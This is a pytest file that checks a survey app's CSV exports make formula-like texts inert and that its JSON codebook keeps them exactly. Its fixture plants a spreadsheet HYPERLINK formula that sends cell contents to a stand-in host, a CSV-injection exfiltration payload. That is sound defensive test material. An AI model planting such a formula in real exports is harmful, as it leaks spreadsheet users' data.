"""No exported cell would be evaluated by a spreadsheet: a survey's texts and keys that begin like
a formula are written inert in every CSV (a leading apostrophe), numbers stay numbers, and the
codebook, which is JSON and has no cells, keeps every text exactly. (The XLSForm export is
tested in tests/web/core/surveys/xlsform/test_xlsform_interop.py.)"""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.conftest import no_database
from web.core.infrastructure.formula_guard import csv_value, looks_like_formula

PLANTED = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
SURVEY = {
    "slug": "planted",
    "title": "@Planted",
    "description": "-",
    "questions": [
        {"id": "-cheated", "type": "yesno", "text": PLANTED, "epsilon": 2.0,
         "procedure": "spinner_coin"},
        {"id": "year", "type": "direct", "text": "+Year?",
         "options": [{"id": "-first", "text": "@SUM(1,1)"}, {"id": "second", "text": "\tTab"}]},
    ],
}  # fmt: skip


@pytest.fixture
def planted(app, import_survey, runner, seed_responses):
    slug = import_survey(SURVEY)
    app.config["RESULTS_MIN_N"] = 2
    seed_responses(slug, 400, seed=3, share=0.0)
    return slug


def fields(text: str) -> list[str]:
    return [
        field for row in csv.reader(io.StringIO(text)) if row and not row[0].startswith("#")
        for field in row
    ]  # fmt: skip


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "path",
    [
        "estimates.csv",
        "estimates.csv?method=bayes",
        "estimates.csv?by=year",
        "responses.csv",
        "synthetic.csv",
    ],
)
def test_no_csv_cell_begins_like_a_formula_and_numbers_stay_numbers(planted, researcher, path):
    response = researcher.get(f"/surveys/{planted}/{path}")
    assert response.status_code == 200
    cells = fields(response.get_data(as_text=True))
    assert cells
    for cell in cells:
        assert not looks_like_formula(cell) or number(cell), cell
    if path == "estimates.csv?by=year":
        assert "'-cheated" in cells and "'-first" in cells
    elif path.startswith("estimates"):
        assert "'" + PLANTED in cells and "'@SUM(1,1)" in cells and "'\tTab" in cells
        # With a true share of 0, some estimate is negative: written as the number it is.
        assert any(cell.startswith("-") and number(cell) for cell in cells)
    else:
        assert "'-cheated" in cells or "'-first" in cells


def test_the_codebook_keeps_every_text_exactly(planted, researcher):
    codebook = json.loads(researcher.get(f"/surveys/{planted}/codebook.json").get_data())
    assert {PLANTED, "@SUM(1,1)", "\tTab", "-cheated"} <= set(texts(codebook))


def texts(value):
    """Every string in a JSON document."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from texts(item)


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("plain", "plain"), (-0.05, -0.05), (3, 3), ("", "")],
)  # fmt: skip
@no_database
def test_a_csv_value_is_made_inert_only_when_it_is_text_like_a_formula(value, written):
    assert csv_value(value) == written
